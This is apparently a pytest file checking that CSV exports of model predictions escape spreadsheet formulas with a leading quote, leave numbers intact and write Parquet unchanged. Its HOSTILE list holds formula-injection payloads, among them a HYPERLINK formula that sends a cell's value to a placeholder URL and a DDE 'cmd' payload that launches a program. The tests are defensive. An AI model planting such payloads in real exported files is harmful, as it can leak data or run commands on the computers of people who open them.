"""CSV results are safe to open in a spreadsheet (shared/tables/formula_escape.py):
text cells that would run as formulas get a leading `'`; numbers stay numbers;
Parquet is written as it is."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from shared.tables.formula_escape import escape_formula
from shared.tables.table_files import CSV, PARQUET, result_table, write_table

HOSTILE = ['=HYPERLINK("http://x/"&A1)', "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def _predictions(result: dict) -> list[str]:
    """The `prediction` cells of the result's CSV, as a spreadsheet receives them."""
    return [row[0] for row in _rows(write_table(result_table(result), CSV))[1:]]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("cell", ["-1.5", "+2", "-.5", "-1e-3", "3", "a=b", "", "setosa", -1.5, 7])
def test_numbers_and_harmless_text_are_left_alone(cell):
    assert escape_formula(cell) == cell


def test_labels_and_the_column_names_made_from_them_are_escaped_in_csv():
    result = {
        "predictions": [HOSTILE[0], "setosa", HOSTILE[3]],
        "probabilities": [[0.7, 0.2, 0.1], [0.1, 0.8, 0.1], [0.2, 0.2, 0.6]],
        "classes": [HOSTILE[0], "setosa", "=1+1"],
    }
    header, *rows = _rows(write_table(result_table(result), CSV))
    # Names made from labels start with "proba_": nothing for a spreadsheet to run.
    assert header[0] == "prediction"
    assert header[1:] == ['proba_=HYPERLINK("http://x/"&A1)', "proba_setosa", "proba_=1+1"]
    assert [row[0] for row in rows] == ["'" + HOSTILE[0], "setosa", "'" + HOSTILE[3]]
    assert rows[0][1:] == ["0.7", "0.2", "0.1"]


def test_a_column_name_that_starts_a_formula_is_escaped():
    table = pd.DataFrame({"=cmd": ["a"], "ok": [1]})
    header, row = _rows(write_table(table, CSV))
    assert header == ["'=cmd", "ok"]
    assert row == ["a", "1"]


def test_negative_numbers_stay_numbers():
    result = {"predictions": [-1.5, 2.0, -0.25], "quantiles": {"0.1": [-3.0, 1.0, -1e-3]}}
    table = pd.read_csv(io.BytesIO(write_table(result_table(result), CSV)))
    assert table["prediction"].tolist() == [-1.5, 2.0, -0.25]
    assert table["q_0.1"].tolist() == [-3.0, 1.0, -1e-3]
    # Integer labels, negative ones included, are numbers too.
    labels = {"predictions": [-1, 1, -1], "classes": [-1, 1]}
    assert _predictions(labels) == ["-1", "1", "-1"]


def test_labels_that_are_only_a_number_are_not_escaped():
    labels = {"predictions": ["-1", "+1", "-1"], "classes": ["-1", "+1"]}
    assert _predictions(labels) == ["-1", "+1", "-1"]


def test_escaping_can_be_turned_off_and_never_touches_parquet():
    result = {"predictions": list(HOSTILE), "classes": sorted(HOSTILE)}
    raw = _rows(write_table(result_table(result), CSV, escape_formulas=False))
    assert [row[0] for row in raw[1:]] == HOSTILE
    parquet = pd.read_parquet(io.BytesIO(write_table(result_table(result), PARQUET)))
    assert parquet["prediction"].tolist() == HOSTILE


def test_a_carriage_return_in_a_cell_is_quoted_so_the_row_stays_whole():
    table = pd.DataFrame({"prediction": ["a\rb", "c\nd", "e"]})
    data = write_table(table, CSV, escape_formulas=False)
    assert data.startswith(b"prediction\r\n")  # RFC 4180 line ends
    assert _rows(data) == [["prediction"], ["a\rb"], ["c\nd"], ["e"]]
